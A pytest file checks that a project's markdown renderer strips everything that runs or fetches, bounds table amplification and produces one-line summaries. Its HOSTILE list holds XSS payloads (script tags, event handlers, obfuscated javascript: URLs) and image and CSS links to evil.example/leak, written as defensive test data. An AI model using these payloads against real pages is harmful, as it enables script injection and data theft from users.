"""Markdown becomes HTML in which nothing runs and nothing is fetched."""

import re

import pytest

from project.text import first_words, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.example/leak?data=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/leak",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<a href='x' onclick=alert(1)>x</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>",
    "[a](<javascript:alert(1)>)",
    "\u202ecba",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(source: str) -> None:
    html = render_markdown(source)
    tags = re.findall(r"<[^>]*>", html)
    assert not re.search(r"(?i)<(script|style|img|svg|iframe|details|object)", " ".join(tags))
    for tag in tags:
        assert not re.search(r"(?i)\son\w+\s*=", re.sub(r'"[^"]*"', '""', tag))
        target = re.search(r'href="([^"]*)"', tag)
        assert target is None or re.match(r"https?://|mailto:|/[^/]|/$|#", target[1]), tag


def test_markdown_is_rendered() -> None:
    html = render_markdown("# Title\n\n**bold** ~~gone~~ [link](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<table>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def wide_table(columns: int, rows: int) -> str:
    """A table whose rows name one cell each and are filled up to its width."""
    return "|a" * columns + "|\n" + "|-" * columns + "|\n" + "a\n" * rows


@pytest.mark.parametrize("source", [wide_table(1400, 5000), (wide_table(700, 90) + "\n") * 5, (wide_table(60, 80) + "\n") * 30])
def test_few_words_make_no_huge_tables(source: str) -> None:
    html = render_markdown(source)
    assert html.count("<td") <= max(5_000, len(source) // 2)
    assert len(html) < 10 * len(source)


@pytest.mark.parametrize(("columns", "rows"), [(4, 2000), (40, 100), (2, 3)])
def test_tables_that_name_their_cells_are_rendered(columns: int, rows: int) -> None:
    row = "| 1 " * columns + "|\n"
    html = render_markdown(f"{row}{'|---' * columns}|\n{row * rows}\nAfter.\n\n{row}{'|---' * columns}|\n{row}")
    assert html.count("<td") == columns * (rows + 1)
    assert html.count("<table>") == 2


def test_links_to_our_own_pages_stay() -> None:
    assert 'href="/boards/x/cards/3/"' in render_markdown("[#3](/boards/x/cards/3/)")


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("# Report\n\n## Key findings\n\n- **Google** rose, see [#13](/x) `code`\n- more", "Google rose, see #13 code"),
        ("two\nlines\n\nand more", "two lines"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n\nBelow a table", "Below a table"),
        ("# Only a *heading*", "Only a heading"),
        ("```\nonly code\n```", "``` only code ```"),
        ("a \\*star\\*", "a *star*"),
        ("", ""),
        ("x" * 50, "x" * 39 + "…"),
    ],
)
def test_first_words_are_one_plain_line(source: str, line: str) -> None:
    assert first_words(source, 40) == line
